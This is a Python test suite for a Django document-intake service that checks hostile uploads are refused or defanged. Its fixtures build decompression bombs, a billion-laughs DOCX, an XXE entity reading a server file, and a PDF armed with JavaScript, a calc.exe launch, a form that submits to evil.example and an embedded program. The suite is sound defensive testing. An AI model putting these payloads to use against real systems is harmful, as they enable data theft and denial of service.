"""Files that are meant to do harm, or do it by accident: each ends in words or in a harmless reading copy.

Neither the process that takes files in nor the one that converts them ever takes much memory for one of them.
"""

import io
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.test import Client
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from documents import tasks
from documents.intake import create_paper
from documents.models import PaperVersion
from eoffice.errors import UserError
from eoffice.files.models import StoredFile
from tests import papers
from tests.city import City

pytestmark = pytest.mark.django_db
MOST_MB = 250
"""By which our own process may grow at most, taking in and converting any of them."""


@pytest.fixture(autouse=True)
def _memory_stays_small() -> Iterator[None]:
    """Linux forgets the peak of a process when told so (proc(5), clear_refs)."""
    _make_large()
    Path("/proc/self/clear_refs").write_text("5")
    before = _megabytes("VmRSS")
    yield
    grown = _megabytes("VmHWM") - before
    assert grown < MOST_MB, f"grew by {grown} MB"


def _make_large() -> None:
    """What takes memory to make is made once, before it is measured."""
    for make in (content_bomb, object_bomb, many_pages, papers.bomb):
        if make.__name__ not in LARGE:
            LARGE[make.__name__] = make()


def _megabytes(name: str) -> int:
    line = next(line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith(name))
    return int(line.split()[1]) // 1024


# --- the files ---------------------------------------------------------------------------------------------

LARGE: dict[str, bytes] = {}


def saved(document: pikepdf.Pdf, **options: Any) -> bytes:
    made = io.BytesIO()
    document.save(made, **options)
    return made.getvalue()


def blank() -> pikepdf.Pdf:
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    return document


def content_bomb() -> bytes:
    """A page whose 1 MB of drawing unpacks to 1 GB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _million in range(1000)) + packer.flush()
    document = blank()
    document.pages[0].Contents = pikepdf.Stream(document, packed, Filter=Name.FlateDecode)
    return saved(document)


def object_bomb() -> bytes:
    """A PDF of 200 kB whose objects unpack to 200 MB when it is merely opened."""
    document = blank()
    document.Root.X = document.make_indirect(String(b"a" * 200_000_000))
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def many_pages() -> bytes:
    return papers.pdf(10_000)


def large_page() -> bytes:
    """A page of 5 m by 5 m."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(14_173, 14_173))
    return saved(document)


def armed() -> bytes:
    """Scripts, a program to start, a form that sends, an embedded program: at every place where they may hang."""
    document = blank()
    root, page = document.Root, document.pages[0].obj
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('xin chao')"))
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"), Win=Dictionary(F=String("calc.exe")))
    send = Dictionary(S=Name.SubmitForm, F=Dictionary(Type=Name.Filespec, F=String("http://evil.example/")))
    program = document.make_stream(b"MZ-chuong-trinh", Type=Name.EmbeddedFile)
    carried = document.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=program)))
    root.OpenAction = document.make_indirect(script)
    root.AA = Dictionary(WC=script)
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), carried])),
    )
    field = Dictionary(FT=Name.Tx, T=String("o"), AA=Dictionary(K=script))
    root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]), XFA=String("<xdp/>"))
    item = document.make_indirect(Dictionary(Title=String("Muc"), A=launch))
    root.Outlines = document.make_indirect(Dictionary(First=item, Last=item, Count=1))
    page.AA = Dictionary(O=script)
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]))
    web = Dictionary(**{"/S": Name.URI, "/URI": String("https://hanoi.gov.vn/")})
    page.Annots = Array(
        [Dictionary({**{key: link[key] for key in link}, "/A": action}) for action in (script, launch, send, web)]
        + [document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=link.Rect, FS=carried))]
    )
    return saved(document)


def word_with_secret_of_the_server(path: str) -> bytes:
    """A DOCX whose text is an entity that names a file of the server (XXE)."""
    return _word_of(f'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file://{path}">]>', "&xxe;")


def laughing_word() -> bytes:
    """A DOCX of a few hundred letters that unpacks to a billion (billion laughs)."""
    entities = '<!ENTITY a0 "haha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return _word_of(f"<!DOCTYPE w [{entities}]>", "&a9;")


def _word_of(declaration: str, text: str) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return papers.package(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
            "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?>{declaration}<w:document xmlns:w="http://schemas.'
            'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Trước '
            f"{text}</w:t></w:r></w:p></w:body></w:document>",
        }
    )


def polyglot() -> bytes:
    """At once a PDF, a web page with a script, and a ZIP with a program."""
    script = b"<html><script>alert(document.cookie)</script></html>\n"
    return script + papers.pdf() + papers.package({"a.exe": b"MZ" * 100})


# --- taking in ---------------------------------------------------------------------------------------------


@pytest.fixture
def hand_in(city: City) -> Callable[[bytes, str], PaperVersion]:
    def make(content: bytes, name: str) -> PaperVersion:
        version = create_paper(papers.upload(content, name), by=city["organiser_clerk"]).versions.get()
        tasks.convert(version.pk)
        version.refresh_from_db()
        return version

    return make


@pytest.mark.parametrize(
    ("make", "name", "code"),
    [
        (lambda: papers.pdf()[:150], "hong.pdf", "file-damaged"),
        (lambda: papers.word()[:2000], "hong.docx", "file-damaged"),
        (papers.locked_pdf, "khoa.pdf", "file-locked"),
        (lambda: LARGE["bomb"], "bom.docx", "file-swollen"),
        (lambda: LARGE["object_bomb"], "bom.pdf", "file-damaged"),  # qpdf takes want of memory for damage
        (polyglot, "trang.html", "file-ending-differs"),
        (polyglot, "nen.zip", "file-ending-differs"),
        (polyglot, "van-ban.docx", "file-ending-differs"),
    ],
)
def test_it_is_refused_with_a_sentence_and_what_to_do(
    make: Any, name: str, code: str, hand_in: Any, settings: Any
) -> None:
    settings.PDF_MEMORY_BYTES = 300 * 1024 * 1024
    with pytest.raises(UserError) as caught:
        hand_in(make(), name)
    assert caught.value.code == code
    assert str(caught.value.hint)
    assert not StoredFile.objects.exists()


# --- converting --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "code"), [("content_bomb", "pdf-too-heavy"), ("many_pages", "too-many-pages")])
def test_a_conversion_that_wants_too_much_fails_in_words(
    name: str, code: str, hand_in: Any, client_as: Callable[[str], Client], settings: Any
) -> None:
    settings.PDF_MEMORY_BYTES = 600 * 1024 * 1024
    version = hand_in(LARGE[name], "lon.pdf")
    assert (version.conversion, version.failure_code) == ("failed", code)
    said = client_as("organiser_clerk").get(reverse("paper-detail", args=[version.paper_id])).content.decode()
    assert version.failure in said
    assert hand_in(papers.pdf(), "sau-do.pdf").is_ready, "the worker lives"


def test_a_pdf_that_takes_too_long_is_stopped(hand_in: Any, settings: Any) -> None:
    settings.CONVERSION_TIMEOUT_S = 0.05
    assert hand_in(papers.pdf(), "lau.pdf").failure_code == "pdf-too-heavy"


def test_a_page_of_five_metres_is_shown(hand_in: Any) -> None:
    page = hand_in(large_page(), "lon.pdf").pages.get()
    assert (page.width, page.height) == (1400, 1400)


def test_the_reading_copy_has_nothing_that_acts_by_itself(hand_in: Any) -> None:
    version = hand_in(armed(), "co-ma.pdf")
    assert version.is_ready
    with version.pdf.content.open("rb") as content, pikepdf.open(content) as copy:
        plain = saved(copy, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    for sign in (
        b"JavaScript",
        b"app.alert",
        b"Launch",
        b"calc.exe",
        b"SubmitForm",
        b"EmbeddedFile",
        b"chuong-trinh",
        b"XFA",
    ):
        assert sign not in plain, sign
    assert b"https://hanoi.gov.vn/" in plain, "links to the web stay"
    assert b"Muc" in plain, "the outline stays"


def test_a_polyglot_is_shown_as_the_pdf_that_it_is_and_its_original_only_downloaded(
    hand_in: Any, client_as: Callable[[str], Client]
) -> None:
    version = hand_in(polyglot(), "nhieu-mat.pdf")
    assert version.is_ready
    with version.pdf.content.open("rb") as content:
        copy = content.read()
    assert copy.startswith(b"%PDF-")
    assert b"<script>" not in copy
    assert b"a.exe" not in copy
    original = client_as("organiser_clerk").get(reverse("paper-original", args=[version.pk]))
    assert original.headers["Content-Type"] == "application/pdf"
    assert original.headers["X-Content-Type-Options"] == "nosniff"
    assert original.headers["Content-Disposition"].startswith("attachment")


def test_a_document_cannot_read_files_of_the_server(hand_in: Any, tmp_path: Path) -> None:
    secret = tmp_path / "mat-khau.txt"
    secret.write_text("khong-ai-duoc-thay")
    version = hand_in(word_with_secret_of_the_server(str(secret)), "xxe.docx")
    assert version.conversion in ("ready", "failed")
    assert not version.pages.filter(text__contains="khong-ai").exists()


def test_a_document_that_unpacks_to_a_billion_words_fails_in_words(hand_in: Any, settings: Any) -> None:
    settings.CONVERSION_TIMEOUT_S = 60
    version = hand_in(laughing_word(), "cuoi.docx")
    assert version.conversion in ("ready", "failed")
    assert sum(len(page.text) for page in version.pages.all()) < 100_000
